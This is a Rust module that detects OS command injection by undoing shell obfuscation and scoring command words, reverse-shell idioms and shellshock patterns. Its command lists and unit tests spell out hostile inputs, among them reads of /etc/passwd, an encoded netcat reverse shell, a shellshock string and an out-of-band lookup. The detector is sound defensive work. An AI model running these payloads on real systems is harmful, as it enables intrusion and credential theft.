//! OS command injection (Unix shells, Windows cmd / PowerShell).
//!
//! The value is first "de-obfuscated" the way a shell would: quote characters and
//! backslash escapes inside words vanish (`c'a't`, `c\at`), `$@`/`$IFS`/`${IFS}`
//! become separators, brace lists (`{cat,/etc/passwd}`) become words. Then every
//! command position (value start, after `;` `|` `&` newline, inside `$(...)` or
//! backticks) is checked for a known command whose *arguments look like shell
//! arguments* (flags, paths, URLs, redirections, variables). "bash away in the gym"
//! has a command word but no shell-shaped arguments and no command separator.

/// A detection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CmdHit {
    /// 1..=10.
    pub score: u8,
    /// Which shape matched.
    pub reason: &'static str,
    /// The command word seen.
    pub command: String,
}

const UNIX: &[&str] = &[
    "cat",
    "tac",
    "nl",
    "head",
    "tail",
    "more",
    "less",
    "id",
    "whoami",
    "uname",
    "ls",
    "dir",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "fish",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "find",
    "xargs",
    "env",
    "printenv",
    "export",
    "echo",
    "printf",
    "sleep",
    "ping",
    "nslookup",
    "dig",
    "host",
    "traceroute",
    "ifconfig",
    "ip",
    "netstat",
    "ps",
    "kill",
    "killall",
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "touch",
    "mkdir",
    "ln",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "openssl",
    "mkfifo",
    "crontab",
    "useradd",
    "passwd",
    "su",
    "sudo",
    "nohup",
    "timeout",
    "time",
    "exec",
    "eval",
    "who",
    "w",
    "hostname",
    "systemctl",
    "shutdown",
    "reboot",
    "tar",
    "gcc",
    "rev",
    "jrunscript",
    "jjs",
    "nmap",
    "dd",
    "strings",
    "sort",
    "uniq",
    "wc",
    "tee",
    "readlink",
    "lsof",
    "getent",
];
const WINDOWS: &[&str] = &[
    "cmd",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "net",
    "net1",
    "systeminfo",
    "ipconfig",
    "tasklist",
    "taskkill",
    "type",
    "copy",
    "del",
    "start",
    "reg",
    "schtasks",
    "cscript",
    "wscript",
    "iex",
    "invoke-expression",
    "invoke-webrequest",
    "iwr",
    "set",
    "ver",
    "vol",
    "findstr",
    "icacls",
    "attrib",
    "query",
    "sc",
];
/// Commands that take a network target or file name and are used for exfiltration / OOB checks.
const TARGETED: &[&str] = &[
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "nslookup",
    "dig",
    "ping",
    "host",
    "telnet",
    "cat",
    "type",
    "more",
    "head",
    "tail",
    "tftp",
    "ftp",
    "socat",
    "certutil",
    "bitsadmin",
    "powershell",
    "iwr",
    "sleep",
    "timeout",
];
/// Commands that are attack-shaped even with no argument at all.
const BARE_OK: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ls",
    "pwd",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "ps",
    "env",
    "printenv",
    "hostname",
    "tasklist",
    "who",
    "w",
    "dir",
    "ver",
    "set",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "powershell",
    "cmd",
    "getent",
    "rev",
    "lsof",
];

fn is_cmd(w: &str) -> bool {
    UNIX.contains(&w) || WINDOWS.contains(&w)
}

/// Undo shell-level obfuscation.
pub fn deobfuscate(input: &str) -> String {
    let mut s = input.to_lowercase();
    for (from, to) in [
        ("${ifs}", " "),
        ("$ifs$9", " "),
        ("$ifs", " "),
        ("$@", ""),
        ("$*", ""),
        ("${9}", ""),
        ("<>", " "),
        ("\\\n", ""),
    ] {
        if s.contains(from) {
            s = s.replace(from, to);
        }
    }
    let chars: Vec<char> = s.chars().take(65536).collect();
    let mut out = String::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars.get(i).copied().unwrap_or(' ');
        let prev = if i == 0 {
            ' '
        } else {
            chars.get(i - 1).copied().unwrap_or(' ')
        };
        let next = chars.get(i + 1).copied().unwrap_or(' ');
        match c {
            // Quotes or a backslash glued between word characters are removed by the
            // shell: `c'a't` -> cat, `w\hoami` -> whoami, `/et'c/pa'ss'wd`.
            '\'' | '"'
                if (prev.is_alphanumeric() || prev == '/')
                    && (next.is_alphanumeric() || next == '/' || next == '\'' || next == '"') => {}
            '\'' | '"' if (prev == '\'' || prev == '"') && next.is_alphanumeric() => {}
            '\\' if prev.is_alphanumeric() && next.is_alphanumeric() => {}
            '{' if next.is_alphabetic() => {
                // Brace list `{cat,/etc/passwd}` -> `cat /etc/passwd`.
                let close = chars
                    .get(i..)
                    .and_then(|r| r.iter().take(200).position(|&x| x == '}'));
                let inner: String = chars
                    .get(i + 1..i + close.unwrap_or(0))
                    .unwrap_or(&[])
                    .iter()
                    .collect();
                if close.is_some() && inner.contains(',') && !inner.contains(' ') {
                    out.push(' ');
                    out.push_str(&inner.replace(',', " "));
                    out.push(' ');
                    i += close.unwrap_or(0) + 1;
                    continue;
                }
                out.push(c);
            }
            _ => out.push(c),
        }
        i += 1;
    }
    out
}

#[derive(PartialEq, Eq, Clone, Copy)]
enum Arg {
    Bare,
    Flag,
    Path,
    Url,
    Redirect,
    Number,
    Host,
    Word,
}

fn classify_arg(rest: &str) -> Arg {
    let r = rest.trim_start_matches([' ', '\t']);
    let mut it = r.chars();
    let c0 = it.next();
    let c1 = it.next();
    match c0 {
        None => Arg::Bare,
        Some(';') | Some('|') | Some('&') | Some('\n') | Some('`') | Some(')') | Some('}')
        | Some('#') | Some('\'') | Some('"') => Arg::Bare,
        Some('-') if c1.is_some_and(|c| c.is_ascii_alphabetic() || c == '-') => Arg::Flag,
        Some('/')
            if c1.is_some_and(|c| c == '/' || c.is_ascii_alphabetic()) && !r.starts_with("//") =>
        {
            Arg::Path
        }
        Some('/') if r.starts_with("/?") || r.starts_with("/*") => Arg::Path,
        Some('~') | Some('.')
            if r.starts_with("~/") || r.starts_with("./") || r.starts_with("../") =>
        {
            Arg::Path
        }
        Some('\\') => Arg::Path,
        Some('>') | Some('<') | Some('$') => Arg::Redirect,
        Some(c) if c.is_ascii_digit() => {
            if r.starts_with("2>") || r.starts_with("1>") {
                Arg::Redirect
            } else {
                let w: String = r.chars().take_while(|c| !c.is_whitespace()).collect();
                if w.matches('.').count() >= 1
                    && w.chars()
                        .all(|c| c.is_ascii_digit() || c == '.' || c == ':')
                {
                    Arg::Host
                } else {
                    Arg::Number
                }
            }
        }
        Some('/') => Arg::Word,
        Some(_) => {
            let w: String = r
                .chars()
                .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | ')'))
                .collect();
            if w.contains("://") {
                Arg::Url
            } else if w.len() > 2 && w.len() < 30 && w.contains(':') && w.contains('\\') {
                Arg::Path
            } else if w.contains('.') && w.split('.').all(|p| !p.is_empty()) {
                Arg::Host
            } else {
                Arg::Word
            }
        }
    }
}

/// Read the command word at `s` (skipping `sudo`, env assignments, path prefixes).
fn command_at(s: &str) -> Option<(String, &str)> {
    let mut r = s.trim_start_matches([' ', '\t', '(', '{', '!']);
    for _ in 0..3 {
        let word: String = r
            .chars()
            .take_while(|c| {
                c.is_ascii_alphanumeric()
                    || matches!(
                        c,
                        '/' | '.' | '_' | '-' | '?' | '*' | '[' | ']' | ':' | '\\'
                    )
            })
            .take(64)
            .collect();
        if word.is_empty() {
            return None;
        }
        let rest = r.get(word.len()..).unwrap_or("");
        let base = word.rsplit(['/', '\\']).next().unwrap_or(&word);
        let base = base.strip_suffix(".exe").unwrap_or(base);
        if base == "sudo" || base == "nohup" || base == "busybox" {
            r = rest.trim_start();
            continue;
        }
        // Glob-obfuscated binaries: /???/c?t, /bin/ca*.
        if word.starts_with('/')
            && (word.contains('?') || word.contains('*'))
            && word.matches('/').count() >= 2
        {
            return Some(("<glob>".to_string(), rest));
        }
        return if is_cmd(base) {
            Some((base.to_string(), rest))
        } else {
            None
        };
    }
    None
}

/// Analyse a value.
pub fn detect(input: &str) -> Option<CmdHit> {
    if input.len() < 2 {
        return None;
    }
    let s = deobfuscate(input);
    let mut best: Option<CmdHit> = None;
    let mut bump = |score: u8, reason: &'static str, command: &str| {
        if !matches!(&best, Some(b) if b.score >= score) {
            best = Some(CmdHit {
                score,
                reason,
                command: command.to_string(),
            });
        }
    };
    if s.contains("() {") || s.contains("(){") {
        if let Some(p) = s.find("()") {
            let after = s.get(p + 2..).unwrap_or("").trim_start();
            if after.starts_with('{') && after.contains(';') {
                bump(10, "shellshock", "()");
            }
        }
    }
    for idiom in [
        "/dev/tcp/",
        "/dev/udp/",
        "bash -i",
        "sh -i",
        "nc -e",
        "ncat -e",
        "mkfifo /tmp",
        "0<&1",
        ">&/dev/",
        "2>&1|",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ] {
        if s.contains(idiom) {
            bump(9, "reverse-shell-idiom", idiom);
        }
    }
    // Command positions.
    let bytes = s.as_bytes();
    let mut positions: Vec<(usize, u8)> = vec![(0, b'^')];
    let mut k = 0;
    while k < bytes.len() && positions.len() < 256 {
        let c = bytes.get(k).copied().unwrap_or(0);
        match c {
            b';' | b'|' | b'&' | b'\n' | b'`' => positions.push((k + 1, c)),
            b'$' if bytes.get(k + 1) == Some(&b'(') => positions.push((k + 2, b'(')),
            _ => {}
        }
        k += 1;
    }
    for (pos, sep) in positions {
        let Some(tail) = s.get(pos..) else { continue };
        let Some((cmd, rest)) = command_at(tail) else {
            continue;
        };
        let arg = classify_arg(rest);
        let glob = cmd == "<glob>";
        if sep == b'(' || sep == b'`' {
            // Inside $(...) or backticks: any known command is execution.
            bump(9, "command-substitution", &cmd);
            continue;
        }
        let shell_arg = matches!(arg, Arg::Flag | Arg::Path | Arg::Url | Arg::Redirect);
        if sep == b'^' {
            if glob {
                bump(7, "glob-obfuscated-binary", &cmd);
            } else if shell_arg
                && !matches!(
                    cmd.as_str(),
                    "set"
                        | "start"
                        | "time"
                        | "who"
                        | "w"
                        | "host"
                        | "type"
                        | "find"
                        | "sort"
                        | "more"
                )
            {
                bump(6, "command-with-shell-arguments", &cmd);
            } else if shell_arg {
                bump(4, "command-with-shell-arguments", &cmd);
            }
            continue;
        }
        // After a separator.
        let targeted = TARGETED.contains(&cmd.as_str());
        let strong = glob
            || shell_arg
            || (arg == Arg::Bare && BARE_OK.contains(&cmd.as_str()))
            || (matches!(arg, Arg::Host) && targeted)
            || (arg == Arg::Number && matches!(cmd.as_str(), "sleep" | "timeout" | "ping"));
        let s_ = if strong {
            8
        } else if arg == Arg::Word && (targeted || BARE_OK.contains(&cmd.as_str())) {
            4
        } else {
            0
        };
        if s_ > 0 {
            bump(s_, "command-after-separator", &cmd);
        }
    }
    if s.contains("$(") && s.contains(')') {
        bump(5, "command-substitution-syntax", "$(");
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(s: &str) -> u8 {
        detect(s).map_or(0, |h| h.score)
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
            "`curl -L http://google.com`",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "ax--exec=`id`--remote=origin",
            "; cat /et'c/pa'ss'wd",
            "127.0.0.1 && ls /etc",
            "| nslookup x.burpcollaborator.net",
            "/???/b??h",
            ";{cat,/etc/passwd}",
            "a;cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1",
            "|| whoami",
            "cat /etc/passwd",
        ] {
            assert!(score(a) >= 6, "missed {a:?}: {:?}", detect(a));
        }
    }

    #[test]
    fn benign() {
        for b in [
            "bash away in the gym",
            "zsh is the best!",
            "curl and divergence",
            "nc 8000 controller",
            "DEAR FINN,--I think it would do; copy should reach us second post",
            "Tom & Jerry; who cares",
            "I would like to keep-alive my connection",
            "time to go home",
            "rock & roll | type of music",
        ] {
            assert!(score(b) < 6, "false positive {b:?}: {:?}", detect(b));
        }
    }
}
